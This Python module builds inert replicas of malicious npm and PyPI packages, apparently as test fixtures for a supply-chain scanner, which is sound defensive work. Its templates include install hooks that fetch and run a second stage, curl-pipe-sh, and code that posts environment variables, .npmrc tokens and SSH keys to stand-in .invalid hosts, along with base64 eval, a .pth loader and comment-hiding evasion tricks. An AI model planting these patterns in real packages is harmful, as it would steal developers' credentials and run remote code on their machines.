"""Inert replicas of attacks whose payload stands in the archive's code: what a reader of code has to find.

Hosts are under `.invalid`, commands do nothing. Each is an archive as a registry would hand it out.
"""

import base64
from collections.abc import Iterator

from simulator import npm_tarball, sdist, wheel

_ENCODED = base64.b64encode(b"print('inert')  # " + b"x" * 60).decode()
_DOWNLOAD = """\
const { execSync } = require('child_process');
const fs = require('fs');
const https = require('https');
https.get('https://files.replica.invalid/stage2', (response) => {
  let body = '';
  response.on('data', (part) => { body += part; });
  response.on('end', () => { fs.writeFileSync('/tmp/replica.sh', body); execSync('sh /tmp/replica.sh'); });
});
"""
_HARVEST = """\
const https = require('https');
const body = JSON.stringify(process.env);
const request = https.request({ host: 'collect.replica.invalid', method: 'POST' });
request.write(body);
request.end();
"""
_TOKENS = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
const request = https.request({ host: 'collect.replica.invalid', method: 'POST' });
request.write(npmrc + key);
request.end();
"""
_EVAL = f"""\
const code = Buffer.from('{base64.b64encode(b"/* inert */ 1 + 1" * 4).decode()}', 'base64').toString();
eval(code);
"""
_HIDDEN_COMMENT = "const glob = 'src/**/*.js'; const open = '/*';\n"
_SETUP_PY = """\
import urllib.request
from setuptools import setup
from setuptools.command.install import install
class Hooked(install):
    def run(self):
        exec(urllib.request.urlopen('https://files.replica.invalid/stage2').read())
        install.run(self)
setup(name='replica', version='1.0', cmdclass={'install': Hooked})
"""
_PTH = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{_ENCODED}'))\"])\n"
)
_PY_EXEC = f"import base64\nexec(base64.b64decode('{_ENCODED}'))\n"
_PY_HIDDEN = 'MARK = \'"""\'\n'


def replicas() -> Iterator[tuple[str, bytes]]:
    """Give (file name, archive) of each replica."""
    hooked = {"name": "replica", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
    plain = {"name": "replica", "version": "1.0.0", "main": "index.js"}
    for name, code in (("download", _DOWNLOAD), ("harvest", _HARVEST), ("tokens", _TOKENS), ("eval", _EVAL)):
        yield f"npm-{name}-hook.tgz", npm_tarball({"setup.js": code, "index.js": "module.exports = 1\n"}, hooked)
        yield f"npm-{name}-import.tgz", npm_tarball({"index.js": code}, plain)
        evading = {"setup.js": _HIDDEN_COMMENT + code, "index.js": "module.exports = 1\n"}
        yield f"npm-{name}-hook-behind-comment.tgz", npm_tarball(evading, hooked)
    yield (
        "npm-shell-hook.tgz",
        npm_tarball(
            {"index.js": "module.exports = 1\n"},
            {**hooked, "scripts": {"preinstall": "curl -s https://files.replica.invalid/x.sh | sh"}},
        ),
    )
    yield "pypi-setup.tar.gz", sdist("replica", "1.0", {"setup.py": _SETUP_PY, "replica/__init__.py": ""})
    yield (
        "pypi-setup-behind-quotes.tar.gz",
        sdist("replica", "1.0", {"setup.py": _PY_HIDDEN + _SETUP_PY, "replica/__init__.py": ""}),
    )
    yield "replica-1.0-py3-none-any.whl", wheel("replica", "1.0", {"replica/__init__.py": _PY_EXEC})
    yield "replica-1.1-py3-none-any.whl", wheel("replica", "1.1", {"replica/__init__.py": "", "replica_init.pth": _PTH})
